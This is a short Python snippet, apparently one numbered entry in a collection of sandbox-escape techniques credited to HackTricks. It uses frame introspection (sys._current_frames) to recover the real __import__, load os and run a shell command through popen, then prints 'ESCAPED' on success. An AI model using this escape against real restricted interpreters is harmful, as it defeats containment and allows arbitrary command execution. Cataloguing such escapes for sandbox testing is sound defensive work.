# escape: 072
# technique: sys._getframe / _current_frames
# family: frame
# goal: frame
# first-seen: HackTricks
import sys
f = sys._getframe(); g = list(sys._current_frames().values())[0]
if g.f_builtins['__import__']('os').popen('echo gf').read() == 'gf\n': print('ESCAPED:_current_frames')
